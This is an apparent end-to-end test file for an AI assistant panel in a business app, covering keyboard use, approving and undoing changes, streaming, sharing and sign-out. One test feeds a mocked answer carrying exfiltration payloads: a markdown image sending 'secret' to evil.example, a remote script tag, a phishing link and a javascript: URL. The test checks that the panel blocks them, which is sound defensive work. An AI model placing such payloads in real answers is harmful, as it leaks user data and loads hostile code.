import { beforeAll, describe, expect, it } from 'vitest';
import { assistantJourney } from '../support/assistant-journey.ts';
import { business, ready } from '../support/visitor.ts';

const journey = assistantJourney();
const { box, log, ask, open } = journey;
let { stage, providers, page } = journey;
beforeAll(() => {
  ({ stage, providers, page } = journey);
});

const email = `ada-${Date.now()}@moss.example`;
const panel = () => page.getByRole('dialog', { name: 'Assistant' });

const words = (text: string) => text.split(/(?<= )/);

describe('the panel', () => {
  it('opens beside a page from the keyboard, answers, and links to what it found', async () => {
    providers.answer(
      { calls: [{ name: 'paintbox_find_clients', input: { query: 'Eleanor' } }] },
      { text: words('There is one: Eleanor Whitcomb. She has **two** estimates.') },
    );
    await page.goto(`${business}/paintbox/clients`);
    await ready(page);
    await page.keyboard.press('Control+j');
    await box(panel()).waitFor();
    expect(await box(panel()).evaluate((each) => each === document.activeElement)).toBe(true);
    await ask('Who is Eleanor?');
    await log().getByText('There is one: Eleanor Whitcomb').waitFor();
    await panel().locator('summary').getByText('Find clients').click();
    await panel().getByText('"query": "Eleanor"').waitFor();
    await panel().getByRole('link', { name: 'Eleanor Whitcomb' }).click();
    await page.waitForURL(/\/clients\/[0-9a-f-]{36}$/);
    expect(await panel().isVisible()).toBe(true);
    const sent = JSON.stringify(providers.asked[0]?.body);
    expect(sent).toContain('/paintbox/clients');
  });

  it('shows a change before it happens, lets it be edited, does it once it is approved, and takes it back', async () => {
    providers.answer(
      { calls: [{ name: 'paintbox_add_client', input: { name: 'Ada Moos', email } }] },
      { text: words('She is in the list of clients.') },
    );
    await ask('Add Ada Moss as a client');
    const change = panel().getByRole('region', { name: /^Change: .*Ada Moos/ });
    await change.getByText('Waits for you').waitFor();
    await change.getByRole('button', { name: 'Edit' }).click();
    await panel().getByLabel('Name', { exact: true }).fill('Ada Moss');
    await panel().getByRole('button', { name: 'Show the edited change' }).click();
    const edited = panel().getByRole('region', { name: /^Change: .*Ada Moss/ });
    await edited.getByRole('button', { name: 'Approve' }).click();
    await log().getByText('She is in the list of clients.').waitFor();
    await edited.getByText('Done', { exact: true }).waitFor();
    await edited.getByRole('button', { name: 'Undo' }).click();
    await edited.getByText('Taken back', { exact: true }).waitFor();
    await page.goto(`${business}/paintbox/clients?q=Ada+Moss`);
    expect(await page.getByRole('link', { name: 'Ada Moss' }).count()).toBe(0);
  });

  it('closes with Escape and gives the focus back', async () => {
    await ready(page);
    await page.getByRole('link', { name: 'Assistant' }).click();
    await box(panel()).waitFor();
    await page.keyboard.press('Escape');
    await panel().waitFor({ state: 'hidden' });
    expect(
      await page.getByRole('link', { name: 'Assistant' }).evaluate((each) => each === document.activeElement),
    ).toBe(true);
  });
});

describe('the page', () => {
  const long = (word: string) => Array.from({ length: 60 }, (_, at) => `${word}${at}. `);

  it('goes on with an answer after a reload in the middle of it', async () => {
    providers.answer({ text: long('Word'), gapMs: 80 });
    await open();
    await ask('Tell me much');
    await page.waitForURL(/\/assistant\/[0-9a-f-]{36}$/);
    await log().getByText('Word5.').waitFor();
    await page.reload();
    await log().getByText('Word8.').waitFor();
    await page.getByRole('button', { name: 'Stop the answer' }).waitFor();
    await log().getByText('Word59.').waitFor();
    expect((await log().textContent())?.match(/Word7\. /g)).toHaveLength(1);
  });

  it('sends what was said too early when the answer is finished', async () => {
    providers.answer({ text: long('Slow').slice(0, 30), gapMs: 80 }, { text: ['The next answer.'] });
    await ask('Tell me slowly');
    await log().getByText('Slow3.').waitFor();
    await ask('And then?');
    await page.getByText('Goes out when the answer is finished.').waitFor();
    await log().getByText('The next answer.').waitFor();
    expect(await log().getByText('And then?').count()).toBe(1);
    expect(await box().inputValue()).toBe('');
    expect(await log().textContent()).toMatch(/Slow29.*And then\?.*The next answer/);
  });

  it('stops when Escape is pressed, and goes on from there', async () => {
    providers.answer({ text: long('Part'), gapMs: 80 }, { text: ['and that is all.'] });
    await ask('Tell me more');
    await log().getByText('Part4.').waitFor();
    await page.keyboard.press('Escape');
    await log().getByText('Stopped here.').waitFor();
    await log().getByRole('button', { name: 'Continue' }).click();
    await log().getByText('and that is all.').waitFor();
  });

  it('says a question differently with the arrow up, and turns between what was said', async () => {
    providers.answer({ text: ['The second answer.'] });
    await page.getByRole('button', { name: 'Send', exact: true }).waitFor();
    await box().press('ArrowUp');
    await expect.poll(() => box().inputValue()).toBe('Tell me more');
    await box().fill('Tell me less');
    await page.keyboard.press('Enter');
    await log().getByText('The second answer.').waitFor();
    await log().getByText('2 / 2').first().waitFor();
    await log().getByRole('button', { name: 'Earlier version' }).first().click();
    await log().getByText('and that is all.').waitFor();
  });

  it('keeps what was not sent yet over a reload', async () => {
    await box().fill('I was about to');
    await page.reload();
    await ready(page);
    expect(await box().inputValue()).toBe('I was about to');
    await box().fill('');
  });

  it('leaves nothing in the browser when its person signs out', async () => {
    const leaving = await stage.member('member');
    await leaving.goto(`${business}/assistant`);
    await ready(leaving);
    await box(leaving).fill('Something that the next person here should not read');
    await leaving.evaluate(() => sessionStorage.setItem('candlefish:work', 'unsaved'));
    const kept = () =>
      leaving.evaluate(() => JSON.stringify([Object.values(localStorage), Object.values(sessionStorage)]));
    expect(await kept()).toMatch(/next person.*unsaved/);
    await leaving.getByRole('button', { name: /^Account of/ }).click();
    await leaving.getByRole('button', { name: 'Sign out' }).click();
    await leaving.waitForURL('**/sign-in');
    await leaving.getByRole('heading', { name: 'Sign in' }).waitFor();
    expect(await kept()).not.toMatch(/next person|unsaved/);
    await leaving.context().close();
  });

  it('gives the words back when nobody is reached', async () => {
    await page.context().setOffline(true);
    await page.getByText('There is no connection. What you write is kept here.').waitFor();
    await ask('Are you there?');
    await page.waitForFunction(() => document.querySelector('textarea')?.value === 'Are you there?');
    await page.context().setOffline(false);
    providers.answer({ text: ['I am here.'] });
    await box().press('Enter');
    await log().getByText('I am here.').waitFor();
    expect(await log().getByText('Are you there?').count()).toBe(1);
    // The browser itself complains of each request that did not leave, and of some late.
    const others = stage.complaints.splice(0).filter((each) => !each.includes('ERR_INTERNET_DISCONNECTED'));
    expect(others).toEqual([]);
  });

  it('is shared with a colleague, who reads and does not write', async () => {
    const address = page.url();
    await page.getByRole('button', { name: 'Share the conversation' }).click();
    await page.getByLabel('Everybody in the business').selectOption('read');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('dialog', { name: 'Share the conversation' }).waitFor({ state: 'hidden' });
    const colleague = await stage.member('viewer');
    await colleague.goto(address);
    await colleague.getByText('I am here.').waitFor();
    await colleague.getByText('shared with you to read').waitFor();
    expect(await colleague.getByLabel('Ask, or say what to do').count()).toBe(0);
    await colleague.context().close();
  });

  it('is renamed, pinned and deleted from the list', async () => {
    const row = page.getByRole('navigation', { name: 'Conversations' }).locator('.history-row').first();
    await row.getByRole('button').click();
    await page.getByRole('button', { name: 'Rename', exact: true }).first().click();
    await page.getByLabel('Name', { exact: true }).fill('Long talks');
    await page.getByRole('dialog', { name: 'Rename the conversation' }).getByRole('button', { name: 'Rename' }).click();
    await page.getByRole('link', { name: 'Long talks' }).waitFor();
    await row.getByRole('button').click();
    await page.getByRole('button', { name: 'Pin', exact: true }).click();
    await page.getByRole('heading', { name: 'Pinned' }).waitFor();
    await row.getByRole('button').click();
    await page.getByRole('button', { name: 'Delete', exact: true }).first().click();
    await page.getByRole('alertdialog').getByRole('button', { name: 'Delete' }).click();
    await page.waitForURL(/\/assistant$/);
    await page.getByRole('link', { name: 'Long talks' }).waitFor({ state: 'detached' });
  });

  it('loads nothing and leads nowhere because an answer says so', async () => {
    providers.answer({
      text: [
        '![x](https://evil.example/p.png?q=secret) <img src="https://evil.example/q.png"> ',
        '[your bank](https://evil.example/pay) [home](javascript:alert(1)) ',
        `[out](/t/other/members) <script src="https://evil.example/s.js"></script> Done.`,
      ],
    });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await open();
    await ask('What does the note say?');
    await log().getByText('Done.').first().waitFor();
    expect(await log().locator('a, img').count()).toBe(0);
    await log()
      .getByRole('button', { name: /your bank.*evil\.example/ })
      .click();
    await page.getByText('https://evil.example/pay').waitFor();
    await page.getByRole('button', { name: 'Stay' }).click();
    expect(asked.filter((url) => url.includes('evil'))).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
  });
});

describe('without a script', () => {
  it('a question is answered, and a change is approved and taken back', async () => {
    const plain = await stage.visitor({ javaScriptEnabled: false, storageState: await page.context().storageState() });
    providers.answer(
      { calls: [{ name: 'paintbox_add_client', input: { name: 'Plain Page' } }] },
      { text: ['It is done.'] },
    );
    await plain.goto(`${business}/assistant`);
    await plain.getByLabel('Ask, or say what to do').fill('Add the client Plain Page');
    await plain.getByRole('button', { name: 'Send' }).click();
    await plain.waitForURL(/\/assistant\/[0-9a-f-]{36}$/);
    await plain.getByRole('button', { name: 'Approve' }).click();
    await plain.getByText('It is done.').waitFor();
    await plain.getByRole('button', { name: 'Undo' }).click();
    await plain.getByText('Taken back', { exact: true }).waitFor();
    await plain.context().close();
  });
});
